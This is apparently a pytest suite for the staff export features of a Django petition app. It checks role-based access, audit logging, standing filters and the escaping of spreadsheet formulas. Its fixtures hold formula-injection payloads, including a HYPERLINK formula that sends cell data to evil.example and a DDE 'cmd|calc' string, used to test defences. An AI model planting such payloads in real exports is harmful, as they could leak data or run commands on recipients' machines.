"""Exports: columns by role, audited, and never a formula in a spreadsheet."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from stopalprs.audit.models import AuditEntry
from stopalprs.lib import crypto
from stopalprs.organizing.models import Organizer
from stopalprs.signatures.models import Signature

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def signature(campaign) -> Signature:
    return Signature.objects.create(
        campaign=campaign,
        first_name=FORMULA,
        last_name="+1+cmd|' /C calc'!A0",
        email="mallory@example.org",
        email_index=crypto.blind_index("mallory@example.org"),
        zip_code="94110",
        state="CA",
        district="CA-11",
        comment="@SUM(1+1)",
        status=Signature.Status.CONFIRMED,
    )


def content(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def test_csv_export_neutralizes_formulas(staff_client, signature):
    response = staff_client().get("/staff/c/stop-alprs/signatures.csv")
    rows = list(csv.DictReader(io.StringIO(content(response).decode())))
    assert rows[0]["first_name"] == "'" + FORMULA  # shown as text by every spreadsheet
    assert rows[0]["last_name"].startswith("'+")
    assert rows[0]["comment"] == "'@SUM(1+1)"
    assert rows[0]["email"] == "mallory@example.org"
    assert "no-store" in response["Cache-Control"]
    entry = AuditEntry.objects.get()
    assert entry.action == "export" and entry.record_count == 1


def test_xlsx_export_writes_text_cells_never_formulas(staff_client, signature):
    response = staff_client().get("/staff/c/stop-alprs/signatures.xlsx")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    book = zipfile.ZipFile(io.BytesIO(content(response)))
    sheet = book.read("xl/worksheets/sheet1.xml").decode()
    strings = sheet + (
        book.read("xl/sharedStrings.xml").decode()
        if "xl/sharedStrings.xml" in book.namelist()
        else ""
    )
    assert "<f>" not in sheet  # no cell holds a formula
    # An inline string cell (t="inlineStr"): text, whatever it starts with.
    assert '<is><t>=HYPERLINK("http://evil.example/?leak="&amp;A1,"Click")</t></is>' in strings
    assert AuditEntry.objects.get().action == "export"


def test_unknown_formats_are_not_found(staff_client, signature):
    assert staff_client().get("/staff/c/stop-alprs/signatures.pdf").status_code == 404


def test_organizer_export_needs_the_organizer_role(staff_client):
    Organizer.objects.create(
        name="=cmd",
        email="o@example.org",
        email_index=crypto.blind_index("o@example.org"),
        city="Austin",
        state="TX",
        zip_code="78701",
        role="resident",
        uses_alpr="yes",
        vendor="flock",
        stage="vote",
        confirmed_at="2026-11-01T00:00:00Z",
    )
    assert staff_client("Aggregates only").get("/staff/organizers.csv").status_code == 403
    network = staff_client("Organizer network", name="olga")
    rows = list(csv.DictReader(io.StringIO(content(network.get("/staff/organizers.csv")).decode())))
    assert rows[0]["name"] == "'=cmd" and rows[0]["city"] == "Austin"
    assert AuditEntry.objects.get().object_type == "organizer"


def test_the_command_line_export_is_audited_and_personal_only_when_asked(signature, tmp_path):
    from django.core.management import call_command

    out = tmp_path / "s.csv"
    # One process: workers would open their own connection, which cannot see the test's
    # uncommitted rows (the parallel path is measured by bench/export.py).
    call_command(
        "export_signatures", "stop-alprs", "--out", str(out), "--jobs", "1", stdout=io.StringIO()
    )
    assert (
        out.read_text().splitlines()[0]
        == "zip_code,state,district,source,status,standing,signed_on"
    )
    call_command(
        "export_signatures",
        "stop-alprs",
        "--out",
        str(out),
        "--personal",
        "--format",
        "xlsx",
        stdout=io.StringIO(),
    )
    assert "mallory@example.org" in zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
    assert AuditEntry.objects.filter(action="export").count() == 2


def _signed(campaign, name: str, **fields) -> Signature:
    email = f"{name}@example.org"
    return Signature.objects.create(
        campaign=campaign,
        first_name=name,
        last_name="X",
        email=email,
        email_index=crypto.blind_index(email),
        zip_code="94110",
        state="CA",
        district="CA-11",
        **fields,
    )


@pytest.fixture
def every_standing(campaign) -> None:
    confirmed = Signature.Status.CONFIRMED
    _signed(campaign, "online", status=confirmed)
    _signed(campaign, "paper", status=confirmed, source=Signature.Source.PAPER)
    _signed(campaign, "pending")
    _signed(campaign, "suspect", status=confirmed, fraud_state=Signature.FraudState.SUSPECT)
    _signed(campaign, "held", fraud_state=Signature.FraudState.SUSPECT)  # pending and held
    _signed(campaign, "invalid", status=confirmed, fraud_state=Signature.FraudState.INVALID)


def standings_in(response) -> dict[str, str]:
    rows = csv.DictReader(io.StringIO(content(response).decode()))
    return {row["first_name"]: row["standing"] for row in rows}


def test_the_export_says_where_each_signature_stands_and_holds_what_counts(
    staff_client, every_standing
):
    staff = staff_client()
    assert standings_in(staff.get("/staff/c/stop-alprs/signatures.csv")) == {
        "online": "counted",
        "paper": "paper",
    }
    everything = "&".join(
        f"standing={k}" for k in ("counted", "paper", "pending", "suspect", "invalid")
    )
    assert standings_in(staff.get(f"/staff/c/stop-alprs/signatures.csv?{everything}")) == {
        "online": "counted",
        "paper": "paper",
        "pending": "pending",
        "suspect": "suspect",
        "held": "suspect",
        "invalid": "invalid",
    }
    held = staff.get("/staff/c/stop-alprs/signatures.csv?standing=suspect&standing=pending")
    assert held["Content-Disposition"].endswith('signatures-pending-suspect.csv"')
    assert standings_in(held) == {"pending": "pending", "suspect": "suspect", "held": "suspect"}
    entry = AuditEntry.objects.filter(action=AuditEntry.Action.EXPORT).latest("pk")
    assert entry.record_count == 3 and "(pending, suspect)" in entry.detail
    assert staff.get("/staff/c/stop-alprs/signatures.csv?standing=nonsense").status_code == 404


def test_staff_choose_what_to_export_on_a_page_that_counts_each_kind(staff_client, every_standing):
    staff = staff_client()
    assert 'href="/staff/c/stop-alprs/export/"' in staff.get("/staff/").content.decode()
    page = staff.get("/staff/c/stop-alprs/export/").content.decode()
    assert 'value="counted" checked' in page and 'value="paper" checked' in page
    assert 'value="pending">' in page and 'value="suspect">' in page
    assert "Suspect (held back by the integrity checks): 2" in page
    assert "Pending (not confirmed yet): 1" in page
    assert 'formaction="/staff/c/stop-alprs/signatures.xlsx"' in page
    nothing = staff.get("/staff/c/stop-alprs/signatures.csv?chosen=1")
    assert nothing.status_code == 400
    assert "Choose at least one kind of signature." in nothing.content.decode()


def test_the_command_line_chooses_standings_too(campaign, every_standing, tmp_path):
    from django.core.management import call_command

    out = tmp_path / "held.csv"
    call_command(
        "export_signatures",
        "stop-alprs",
        "--out",
        str(out),
        "--personal",
        "--standing",
        "invalid",
        "--jobs",
        "1",
        verbosity=0,
    )
    rows = list(csv.DictReader(out.open()))
    assert [(r["first_name"], r["standing"]) for r in rows] == [("invalid", "invalid")]


def test_no_column_is_trusted_to_be_safe_every_cell_is_escaped(staff_client):
    """The columns we fill ourselves (a vendor code, a state, a district) are escaped as the
    typed ones are: if a bug, an import or the admin ever puts a formula there, the export
    still fails closed."""
    Organizer.objects.create(
        name="Olga",
        email="o@example.org",
        email_index=crypto.blind_index("o@example.org"),
        city="Austin",
        state="TX",
        zip_code="78701",
        role="resident",
        uses_alpr="yes",
        vendor="=2+5+cmd",  # (fields of 10 characters at most, as PostgreSQL enforces)
        stage="-1+cmd",
        confirmed_at="2026-11-01T00:00:00Z",
    )
    network = staff_client("Organizer network", name="olga")
    rows = list(csv.DictReader(io.StringIO(content(network.get("/staff/organizers.csv")).decode())))
    assert rows[0]["city_uses_alpr"] == "yes" and rows[0]["state"] == "TX"
    assert rows[0]["vendor"] == "'=2+5+cmd"
    assert rows[0]["contract_stage"] == "'-1+cmd"
